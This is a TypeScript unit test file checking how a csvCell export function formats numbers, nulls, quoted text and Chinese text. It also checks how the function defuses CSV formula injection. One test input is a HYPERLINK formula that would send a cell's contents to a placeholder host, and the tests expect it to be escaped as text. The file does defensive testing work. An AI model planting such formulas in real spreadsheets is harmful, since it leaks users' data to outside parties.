import { csvCell } from './statistics-export';

describe('CSV cells', () => {
  it.each([
    [12, '12'],
    [94.37, '94.37'],
    [null, ''],
    [undefined, ''],
    ['teda-enforcement', 'teda-enforcement'],
    ['泰达街, 第一社区', '"泰达街, 第一社区"'],
    ['say "hi"', '"say ""hi"""'],
    // Text a spreadsheet would evaluate (CSV injection) is kept as text.
    ['=HYPERLINK("http://x/?"&A1,"click")', `"'=HYPERLINK(""http://x/?""&A1,""click"")"`],
    ['+1', "'+1"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
  ] as const)('writes %p as %s', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });
});
